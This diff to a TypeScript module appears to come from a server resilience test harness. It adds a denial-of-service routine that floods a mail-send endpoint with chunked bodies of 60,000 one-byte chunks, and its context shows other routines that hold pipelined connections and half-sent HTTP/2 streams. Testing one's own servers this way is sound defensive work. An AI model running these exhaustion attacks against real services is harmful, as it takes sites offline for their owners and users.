@@ -83,6 +83,18 @@ export const attacks: readonly Attack[] = [
       }),
   },
   {
+    name: "bodies in one-byte chunks",
+    run: (target) => {
+      const type = "Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n";
+      const chunks = `${"1\r\nx\r\n".repeat(60_000)}0\r\n\r\n`;
+      return repeatRequest(
+        target,
+        40,
+        `POST /api/mail/send HTTP/1.1\r\n${HEADERS}${type}\r\n${chunks}`,
+      );
+    },
+  },
+  {
     name: "1000 pipelined requests a connection, answers never read",
     run: (target) =>
       holdConnections(target, 8, (socket) => {
@@ -173,10 +185,10 @@ async function holdStreams(
   for (const session of sessions) session.destroy();
 }
 
-/** Attacks on a site behind Caddy, over HTTP/2 and TLS. */
+/** Attacks on a site behind a proxy, over HTTP/2 and TLS. */
 export const proxiedAttacks: readonly Attack[] = [
   {
-    name: "through Caddy: half-sent bodies, 20 × 200 streams",
+    name: "through a proxy: half-sent bodies, 20 × 200 streams",
     run: (target) =>
       holdStreams(
         target,
@@ -191,7 +203,7 @@ export const proxiedAttacks: readonly Attack[] = [
       ),
   },
   {
-    name: "through Caddy: unknown addresses, 20 × 250 streams",
+    name: "through a proxy: unknown addresses, 20 × 250 streams",
     run: (target) =>
       holdStreams(
         target,
